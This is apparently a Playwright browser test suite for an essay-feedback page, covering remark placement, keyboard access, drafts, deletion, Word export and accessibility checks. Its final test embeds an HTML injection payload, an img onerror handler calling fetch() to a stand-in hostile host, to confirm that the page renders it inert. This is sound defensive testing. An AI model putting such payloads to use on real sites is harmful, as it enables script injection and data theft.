"""The Essay page in a real browser: remarks by mouse, keyboard and on a phone, their sources, drafts and deletion."""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.conftest import Open
from tests.browser.made_up import EVIL
from tests.browser.steps import focused, panel, settle, violations
from tests.tutor.ui.fake_essays import PROSE, REVISED, TITLE, WRONG

pytestmark = pytest.mark.browser


def read_sample(page: Page) -> None:
    page.get_by_role("button", name="Try it with").click()
    mark(page, WRONG[:20]).wait_for()
    settle(page)


def read_text(page: Page, text: str) -> None:
    page.get_by_text("Paste the text").click()
    page.get_by_role("textbox").fill(text)
    page.get_by_role("button", name="Read my essay").click()
    page.locator(".critique").wait_for()
    settle(page)


def mark(page: Page, words: str) -> Locator:
    return page.locator("mark").filter(has_text=words).first


def number(page: Page, place: int) -> Locator:
    return page.get_by_role("button", name=re.compile(rf"^{place}, .*: read the remark$"))


def comment(page: Page, place: int) -> Locator:
    return page.get_by_role("group", name=re.compile(f"^Remark {place},"))


def test_a_remark_stands_at_the_height_of_its_words_and_opens_its_source(open_page: Open) -> None:
    page = open_page("essay")
    read_sample(page)
    page.get_by_role("button", name="Show me where").first.click()
    expect(mark(page, "Every harbour")).to_be_in_viewport()
    settle(page)
    words, said = mark(page, "Every harbour").bounding_box(), comment(page, 1).bounding_box()
    assert words and said
    assert said["x"] > words["x"] + words["width"] / 2
    assert abs(said["y"] - words["y"]) < 30
    comment(page, 1).get_by_role("button", name="The Harbour Question, Why harbours stay open").first.click()
    expect(panel(page).locator("mark")).to_have_text(
        "A harbour that closes its gates in fear invites the very blockade it fears."
    )
    settle(page)
    expect(mark(page, "Every harbour")).to_be_in_viewport()
    panel(page).get_by_role("button", name="Close the source").click()
    expect(panel(page)).to_have_count(0)
    assert focused(page).startswith("The Harbour Question")


def test_remarks_are_reached_and_left_by_keyboard_alone(open_page: Open) -> None:
    page = open_page("essay")
    read_sample(page)
    number(page, 1).focus()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    assert focused(page).startswith("3, does not quote")
    page.keyboard.press("Enter")
    assert focused(page).startswith("Remark 3,")
    expect(comment(page, 3).get_by_text("Does your argument still follow")).to_be_visible()
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    assert focused(page).startswith("The Harbour Question")
    page.keyboard.press("Escape")
    assert focused(page).startswith("3, does not quote")
    expect(comment(page, 3).get_by_text("Does your argument still follow")).not_to_be_visible()


def test_a_disagreement_is_kept_with_its_reason_and_can_be_changed_and_taken_back(open_page: Open) -> None:
    page = open_page("essay")
    read_sample(page)
    number(page, 1).click()
    comment(page, 1).get_by_role("button", name="I disagree").click()
    page.keyboard.type("Only of small harbours")
    comment(page, 1).get_by_role("button", name="Keep").click()
    settle(page)
    page.reload()
    page.get_by_role("button", name=TITLE[:20]).first.click()
    number(page, 1).click()
    expect(comment(page, 1).get_by_text("You disagree: Only of small harbours")).to_be_visible()
    comment(page, 1).get_by_role("button", name="Change what I said").click()
    expect(comment(page, 1).get_by_role("textbox")).to_have_value("Only of small harbours")
    comment(page, 1).get_by_role("button", name="Cancel").click()
    comment(page, 1).get_by_role("button", name="Take it back").click()
    settle(page)
    page.reload()
    page.get_by_role("button", name=TITLE[:20]).first.click()
    number(page, 1).click()
    expect(comment(page, 1).get_by_role("button", name="I disagree")).to_be_visible()


def test_a_tenet_leads_to_its_place_and_a_filter_hides_the_other_remarks(open_page: Open) -> None:
    page = open_page("essay")
    read_sample(page)
    page.get_by_role("button", name="2, place in the essay: A harbour can afford").click()
    expect(page.get_by_text("It is not the height of the wall")).to_be_in_viewport()
    page.get_by_role("button", name=re.compile("All 8 remarks")).click()
    page.get_by_text("Needs a source: 1").click()
    expect(number(page, 1)).to_be_hidden()
    expect(number(page, 5)).to_be_visible()


def test_a_revised_draft_says_what_became_of_each_remark_and_both_can_be_deleted(open_page: Open) -> None:
    page = open_page("essay")
    title = "Walls in Two Drafts"
    read_text(page, PROSE.replace(TITLE, title))
    page.get_by_role("button", name="Upload a revised draft").click()
    read_text(page, REVISED.replace(TITLE, title))
    expect(page.get_by_text("3 dealt with · 4 as before")).to_be_visible()
    page.get_by_text("The remarks on your last draft: 7").click()
    expect(page.get_by_text("Now: “A harbour that is afraid is tempted")).to_be_visible()
    page.get_by_role("button", name="Delete…").click()
    page.get_by_role("button", name="Delete for good").click()
    page.get_by_role("heading", name="Have your essay read closely").wait_for()
    expect(page.get_by_role("button", name=f"Draft 2: {title}")).to_have_count(0)
    expect(page.get_by_role("button", name=title, exact=True)).to_have_count(1)


def test_an_essay_is_read_on_while_the_person_looks_at_another_page(open_page: Open) -> None:
    page = open_page("essay")
    page.get_by_text("Paste the text").click()
    page.get_by_role("textbox").fill(PROSE.replace(TITLE, "A slow essay"))
    page.get_by_role("button", name="Read my essay").click()
    expect(page.get_by_text("Judging: 12 of 40 sentences")).to_be_visible()
    page.get_by_role("link", name="Chat").click()
    page.get_by_role("heading", name="What would you like to understand?").wait_for()
    page.get_by_role("link", name="Essay").click()
    expect(page.get_by_role("heading", name="A slow essay")).to_be_visible()
    expect(page.get_by_role("button", name="A slow essay")).to_have_count(1)


def test_the_remarks_are_taken_away_as_a_word_file(open_page: Open) -> None:
    page = open_page("essay")
    read_sample(page)
    page.get_by_role("button", name="Download").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="Word, with comments").click()
    assert download.value.suggested_filename == "walls-signals-and-the-patience-of-keepers-remarks.docx"
    assert Path(download.value.path()).read_bytes().startswith(b"PK")


@pytest.mark.parametrize("look", ["light", "dark", "phone"])
def test_axe_finds_nothing_serious_and_nothing_overflows(open_page: Open, picture_folder: Path, look: str) -> None:
    page = open_page("essay", dark=look == "dark", phone=look == "phone")
    settle(page)
    page.screenshot(path=picture_folder / f"essay-{look}-start.png")
    assert violations(page) == []
    read_sample(page)
    page.screenshot(path=picture_folder / f"essay-{look}-top.png")
    assert violations(page) == []
    number(page, 1).click()
    settle(page)
    page.screenshot(path=picture_folder / f"essay-{look}-remark.png")
    assert violations(page) == []
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    if look == "phone":
        said, words = comment(page, 1).bounding_box(), mark(page, "Every harbour").bounding_box()
        assert said and words and said["y"] > words["y"]
        expect(comment(page, 2)).to_be_hidden()
    comment(page, 1).get_by_role("button", name="The Harbour Question").first.click()
    expect(panel(page)).to_be_visible()
    settle(page)
    page.screenshot(path=picture_folder / f"essay-{look}-source.png")
    assert violations(page) == []


def test_a_hostile_essay_makes_the_browser_fetch_nothing(open_page: Open, server: str) -> None:
    page = open_page("essay")
    hostile = f"<img src={EVIL}/tag.png onerror=fetch('{EVIL}/script')> ![picture]({EVIL}/picture.png)"
    read_text(page, PROSE.replace(TITLE, f"Hostile {hostile}").replace("There were voices", f"There {hostile} were"))
    expect(page.locator(".critique").get_by_text("![picture]")).to_be_visible()
    assert page.locator("img[src*=evil], iframe[src*=evil], a[href*=evil]").count() == 0
    own = re.compile(rf"^({re.escape(server)}|data:|blob:{re.escape(server)})")
    assert [url for url in page.requested if not own.match(url)] == []  # type: ignore[attr-defined]
